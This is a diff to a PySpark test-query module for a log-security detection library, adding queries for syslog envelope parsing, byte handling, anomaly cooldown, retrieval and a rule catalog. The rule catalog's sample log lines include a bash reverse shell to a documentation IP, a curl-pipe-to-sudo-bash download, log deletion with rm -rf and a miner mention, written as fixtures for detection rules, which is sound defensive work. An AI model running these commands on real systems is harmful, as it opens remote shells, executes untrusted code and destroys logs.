@@ -16,7 +16,8 @@ from logloom.operators import anomaly, buffer, chunk, correlate, fleet, graph, p
 from logloom.operators.canary import Canaries
 from logloom.operators.parse import parse
 from logloom.operators.sigma import event_field, to_column
-from logloom.plans.ingest import Options, to_events, with_incidents
+from logloom.plans.ingest import Options, run_stats, to_events, with_incidents
+from logloom.sources.lines import clip
 
 NOW = datetime(2024, 1, 30, 23, 59, 59, tzinfo=timezone.utc)
 #: A window that the sparse test events can fill; the defaults are one minute and five.
@@ -207,11 +208,14 @@ def knn(spark, d):
 
 
 def parent_collapse(spark, d):
-    """The best vector of each label for each query, labels as parents."""
+    """The best vector of each label for each query: a query's hits of a label are children of one parent."""
     v = _read(spark, d, "embeddings").where("label IS NOT NULL").select("vec_id", "label", F.col("embedding").alias("vector"))
     q = v.where("vec_id % 100 = 0").select(F.col("vec_id").alias("query_id"), "vector")
     top = retrieve.nearest_each(q, v, 32, chunk_id="vec_id").join(v.select(F.col("vec_id").alias("chunk_id"), "label"), "chunk_id")
-    return top.groupBy("query_id", "label").agg(F.max_by("chunk_id", F.struct("score", -F.col("chunk_id"))).alias("vec_id"), F.round(F.max("score"), 6).alias("score"))
+    hits = top.select(F.col("chunk_id").cast("string").alias("chunk_id"), F.concat_ws(":", "query_id", "label").alias("parent_id"), F.lit("").alias("text"), F.lit("en").alias("lang"), F.create_map().cast("map<string,string>").alias("metadata"), "score")
+    parents = top.select("query_id", "label").distinct().select(F.concat_ws(":", "query_id", "label").alias("doc_id"), F.lit("").alias("title"), F.lit("").alias("text"), F.lit("").alias("source"), F.lit("en").alias("lang"), F.lit("vector").alias("doc_type"))
+    place = F.split("doc_id", ":")
+    return retrieve.collapse(hits, parents).select(place[0].cast("bigint").alias("query_id"), place[1].cast("bigint").alias("label"), F.col("chunk_id").cast("bigint").alias("vec_id"), F.round("score", 6).alias("score"))
 
 
 def where_filter(spark, d):
@@ -243,8 +247,100 @@ def probe_stats(spark, d):
     return fleet.stats(p)
 
 
+def byte_lines(spark, d):
+    """Lines with invalid UTF-8, carriage returns and a cut within a character, as bytes from the line to its fingerprint."""
+    end = F.expr("CASE seq % 5 WHEN 0 THEN X'FFFE' WHEN 1 THEN X'0D' WHEN 2 THEN X'C30D0D' WHEN 3 THEN X'E38182' ELSE X'' END")
+    raw = clip(lines(spark, d).select("seq", F.concat(F.col("raw").cast("binary"), end).cast("string").alias("value")), 90)
+    s = text.sanitise(raw)
+    return s.select("seq", "san_invalid_utf8", text.fingerprint(F.col("raw")).alias("raw_sha256"), F.octet_length("raw").cast("bigint").alias("n_bytes"))
+
+
+def capped(spark, d):
+    docs = _read(spark, d, "documents")
+    return docs.select("doc_id", text.cap(F.coalesce("text", F.lit("")), 60).alias("capped"))
+
+
+ENVELOPE = """CASE event_id % 5 WHEN 0 THEN concat('<34>1 ', iso, 'Z host', cast(user_id % 5 as string), ' app 77 ID7 - value ', cast(event_id as string))
+ WHEN 1 THEN concat('<13>', bsd, ' host', cast(user_id % 5 as string), ' cron[', cast(event_id % 900 + 1 as string), ']: value ', cast(event_id as string)) WHEN 2 THEN concat('<999>odd value ', cast(event_id as string))
+ WHEN 3 THEN concat('app[', cast(event_id % 900 + 1 as string), ']: value ', cast(event_id as string)) ELSE concat('plain value ', cast(event_id as string)) END"""
+
+
+def envelopes(spark, d):
+    """The other envelopes: RFC 5424, BSD with a year from the clock, bad priority, a tag only, and none."""
+    e = _read(spark, d, "events").withColumn("iso", F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss.SSSSSS"))
+    e = e.withColumn("bsd", F.concat(F.date_format("ts", "MMM "), F.lpad(F.date_format("ts", "d"), 2, " "), F.date_format("ts", " HH:mm:ss")))
+    p = parse(e.select(F.col("event_id").alias("seq"), F.expr(ENVELOPE).alias("raw")), "raw", NOW)
+    return p.select("seq", F.col("env_format").alias("format"), F.col("env_facility").alias("facility"), F.col("env_level").cast("bigint").alias("level"), F.col("env_host").alias("host"), F.col("env_process").alias("process"), F.col("env_pid").cast("bigint").alias("pid"), F.col("env_message").alias("message"), F.unix_micros("env_time").alias("us"))
+
+
+#: A process and a message for each rule, in the order of the rules, and what looks like one but isn't.
+SAMPLES = (
+    ("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), ("bash", "curl http://x/a | sudo bash"), ("top", "started xmrig in the background"), ("bash", "rm -rf /var/log/nginx"),
+    ("sshd", "Failed publickey for invalid user bob from 203.0.113.9 port 22"), ("sshd", "Invalid user al from 203.0.113.9"), ("sshd", "error: maximum authentication attempts exceeded for bob"),
+    ("sshd", "reverse mapping: POSSIBLE BREAK-IN ATTEMPT!"), ("sshd", "Accepted none for bob from 2001:db8::1 port 9"), ("sshd", "Connection closed by authenticating user bob 203.0.113.9 port 4 [preauth]"),
+    ("login", "pam_unix(login:auth): authentication failure; rhost=203.0.113.9 user=bob"), ("sudo", "bob : user NOT in sudoers ; TTY=pts/0"), ("sudo", "bob : 3 incorrect password attempts"), ("sudo", "bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls"),
+    ("su", "FAILED SU (to root) bob on pts/0"), ("pkexec", "pkexec: GCONV_PATH is set"), ("useradd", "new user: name=eve, UID=1003, GID=1"), ("usermod", "add 'eve' to group 'docker'"), ("vi", "wrote /root/.ssh/Authorized_Keys"),
+    ("systemd", "Created symlink /etc/systemd/system/x.service to y.service"), ("kernel", "[UFW AUDIT] IN=eth0 SRC=203.0.113.9 DST=10.0.0.1 PROTO=UDP SPT=5 DPT=53"), ("kernel", "IN=eth0 OUT= MAC=x SRC=203.0.113.9 DST=10.0.0.1 DPT=23"),
+    ("CRON", "(root) CMD (run-parts /etc/cron.hourly)"), ("crontab", "(bob) REPLACE (bob)"), ("kernel", "audit: apparmor=\"DENIED\" operation=open"), ("auditd", "auditd stopped"), ("kernel", "Out of memory: Killed process 77 (java)"),
+    ("kernel", "java[77]: segfault at 7f0c ip 0"), ("systemd", "Failed to start nginx"), ("kernel", "Buffer I/O error on sda"), ("cron", "CMD (nothing) by nobody"), ("ssh", "Failed password for bob from 203.0.113.9 port 1"), ("app", "nothing to see"),
+    ("kernel", "usb 1-1: new high-speed device"), ("kernel", "link is up"), ("sshd", "Server listening on 0.0.0.0 port 22."),
+)
+
+
+def rule_catalog(spark, d):
+    """Every rule on lines of its own: the verdict of a sample in each event's place."""
+    e = _read(spark, d, "events").select(F.col("event_id").alias("seq"), F.element_at(F.array(*[F.struct(F.lit(p).alias("p"), F.lit(m).alias("m")) for p, m in SAMPLES]), (F.col("event_id") % len(SAMPLES) + 1).cast("int")).alias("s"))
+    raw = e.select("seq", F.concat(F.lit("2024-01-05T06:07:08Z host1 "), F.col("s.p"), F.lit(": "), F.col("s.m")).alias("raw"))
+    return to_events(raw, Options(now=NOW)).select("seq", "rule", "category", "outcome")
+
+
+def ip6_scope(spark, d):
+    e = _read(spark, d, "events").select("event_id", F.expr("CASE event_id % 6 WHEN 0 THEN '::1' WHEN 1 THEN concat('fe80::', lower(hex(event_id % 65536))) WHEN 2 THEN concat('fd12:3::', lower(hex(event_id % 65536))) WHEN 3 THEN concat('2a00:1450::', lower(hex(event_id % 65536))) WHEN 4 THEN concat('ff0e::', lower(hex(event_id % 65536 + 1))) ELSE '::' END").alias("ip"))
+    return e.select("event_id", "ip", ip.scope(F.col("ip")).alias("scope"))
+
+
+def event_signals(spark, d):
+    s = buffer.signals(buffer.with_pos(events(spark, d)))
+    return s.select("event_count", "critical", "high", "warning", "notice", "info", F.col("peak.score").cast("bigint").alias("peak_score"), F.col("peak.rule").alias("peak_rule"), "incidents", "sources", "sanitised")
+
+
+def event_lookup(spark, d):
+    e = events(spark, d)
+    return buffer.lookup(e, e.where("rule = 'new_user_created'")).select("seq", "rule", "raw_sha256")
+
+
+def event_news(spark, d):
+    """What is new after a first reading that had the failures."""
+    e = events(spark, d)
+    return buffer.new_events(e, e.where("outcome = 'failure'")).select("seq", "rule")
+
+
+def anomaly_cooled(spark, d):
+    """Findings after a state in which hours were advised an hour ago and all others two days ago."""
+    base, win = anomaly.split(events(spark, d), NOW)
+    a = anomaly.anomalies(base, win, min_bits=3.0)
+    ago = lambda h: F.lit(NOW) - F.make_dt_interval(F.lit(0), F.lit(h))
+    state = a.select(F.concat("dim", F.lit("="), "value").alias("key"), F.when(F.col("dim") == "hour", ago(1)).otherwise(ago(48)).alias("advised_at"))
+    return anomaly.cooled(a, state, NOW).select("key", "kind")
+
+
+def language_floor(spark, d):
+    """The best by score, two of each of two languages reserved."""
+    docs = _documents(spark, d).withColumn("score", (F.col("doc_id").cast("bigint") * 7919 % 10007) / 10007.0)
+    return retrieve.with_floor(docs, 10, ("fr", "de"), 2, 10).select("doc_id", "lang", F.round("score", 6).alias("score"))
+
+
+def language_mix(spark, d):
+    return retrieve.mix(_documents(spark, d))
+
+
+def ingest_stats(spark, d):
+    return run_stats(events(spark, d, CANARIES))
+
+
 QUERIES = (rule_verdict, parse_envelope, severity_histogram, ip_scope, sanitise_flags, fingerprint_dedupe, sigma_filter, canary_hits, failure_sliding_count, incidents, event_feed, feed_summary, top_sources, triage_top, log_windows, window_documents,
-           anomaly_scores, anomaly_report, graph_nodes, graph_edges, graph_shapes, graph_chains, blast_radius, reachable, graph_components, lang_tokens, chunk_documents, knn, parent_collapse, where_filter, pii_mask, block_decision, block_plan, probe_stats)
+           anomaly_scores, anomaly_report, graph_nodes, graph_edges, graph_shapes, graph_chains, blast_radius, reachable, graph_components, lang_tokens, chunk_documents, knn, parent_collapse, where_filter, pii_mask, block_decision, block_plan, probe_stats,
+           byte_lines, capped, envelopes, rule_catalog, ip6_scope, event_signals, event_lookup, event_news, anomaly_cooled, language_floor, language_mix, ingest_stats)
 
 
 def queries() -> dict:
